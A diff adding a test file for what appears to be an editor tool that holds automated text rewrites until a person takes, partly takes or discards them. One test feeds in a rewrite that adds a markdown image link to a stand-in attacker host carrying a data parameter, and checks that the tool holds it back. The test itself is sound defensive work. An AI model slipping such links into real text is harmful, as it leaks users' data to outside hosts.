@@ -1,0 +1,108 @@
+"""Results that wait: by setting, by what they hold, by typing; taken whole, in part, or discarded."""
+
+from support.editing import editing
+from support.rule import Rule
+
+HOLD = {"review": "hold"}
+TEXT = "We utilise it.\n\nWe commence now.\n"
+REFINED = "We use it.\n\nWe begin now.\n"
+
+
+def waiting(at, words=None):
+    """Carry out a run whose result waits; gives its id."""
+    run = at.run(words)
+    at.wait_shown("The refined text waits")
+    return run
+
+
+def test_in_hold_mode_nothing_changes_until_it_is_taken(tmp_path):
+    """The text is as it was, the findings are shown; taking it is one edit."""
+    with editing(tmp_path, options=HOLD) as at:
+        at.open("memo.md", TEXT)
+        waiting(at)
+        assert at.edits() == []
+        at.wait_problems(("house/plain", "utilise"), ("house/plain", "commence"))
+        assert [x["command"]["title"] for x in at.lenses()] == [
+            "Take 2 changes",
+            "Show the difference",
+            "Discard",
+        ]
+        at.choose("Take the refined text", at=3)
+        at.wait_text(REFINED)
+        assert len(at.edits()) == 1
+        at.client.wait(lambda: {p[2] for p in at.problems()} == {4})
+
+
+def test_the_result_is_taken_change_by_change(tmp_path):
+    """One change is taken, the other discarded; each is an edit of its own."""
+    with editing(tmp_path, options=HOLD) as at:
+        at.open("memo.md", TEXT)
+        run = waiting(at)
+        at.client.command("accept", {"runId": run, "hunk": 1})
+        at.wait_text("We utilise it.\n\nWe begin now.\n")
+        at.client.command("revert", {"runId": run, "hunk": 0})
+        at.client.wait(lambda: not any("Take" in t for t in at.titles(at=3)))
+        assert at.text == "We utilise it.\n\nWe begin now.\n"
+        assert at.choose("Revert this change", at=21) is None
+        at.wait_text(TEXT)
+
+
+def test_show_the_difference_is_a_page(tmp_path):
+    """It says why the result waits and shows both texts; the text is untouched."""
+    with editing(tmp_path, options=HOLD) as at:
+        at.open("memo.md", TEXT)
+        waiting(at)
+        page = at.choose("Show the difference", at=3)
+        assert "The refined text waits: your setting is to review before anything changes" in page
+        assert "-We utilise it.\n+We use it." in page
+        [shown] = at.client.wait(lambda: at.client.sent("window/showDocument"))
+        assert shown["uri"].endswith(".md")
+        assert at.text == TEXT
+
+
+def test_a_discarded_result_is_gone_and_the_findings_stay(tmp_path):
+    """Discarding changes nothing in the text."""
+    with editing(tmp_path, options=HOLD) as at:
+        at.open("memo.md", TEXT)
+        waiting(at)
+        at.choose("Discard the refined text", at=3)
+        at.client.wait(lambda: at.lenses() == [])
+        assert at.text == TEXT
+        at.wait_problems(("house/plain", "utilise"), ("house/plain", "commence"))
+
+
+def test_what_brings_new_links_is_held_whatever_the_setting(tmp_path):
+    """A rewrite with an address that the text did not have waits for a person, with the reason."""
+    rule = Rule({"it": "![it](https://evil.test/?d=1)"}, criterion="house/plain")
+    with editing(tmp_path, rule=rule) as at:
+        at.open("memo.md", "We like it.")
+        at.run()
+        assert at.text == "We like it."
+        at.wait_shown("The refined text waits", "look at it first")
+
+
+def test_words_typed_meanwhile_keep_their_change_from_being_taken(tmp_path):
+    """Only the changes whose words are untouched are offered; the others come back with the words."""
+    with editing(tmp_path, options=HOLD) as at:
+        at.open("memo.md", TEXT)
+        run = waiting(at)
+        at.client.change(at.uri, (3, 10, "like"))
+        at.client.wait(lambda: [x["command"]["title"] for x in at.lenses()][:1] == ["Take 1 change"])
+        at.client.change(at.uri, (3, 7, "utilise"))
+        at.client.wait(lambda: [x["command"]["title"] for x in at.lenses()][:1] == ["Take 2 changes"])
+        at.client.change(at.uri, (3, 10, "like"))
+        at.client.command("accept", {"runId": run})
+        at.wait_text("We like it.\n\nWe begin now.\n")
+
+
+def test_a_waiting_result_outlives_the_closing_of_its_document(tmp_path):
+    """Opened again, the result is still to be had, wherever its words stand now."""
+    with editing(tmp_path, options=HOLD) as at:
+        at.open("memo.md", TEXT)
+        waiting(at)
+        at.client.close(at.uri)
+        at.open("memo.md", f"# Memo\n\n{TEXT}", version=1)
+        at.choose("Take the refined text", at=12)
+        at.wait_text(f"# Memo\n\n{REFINED}")
+
+
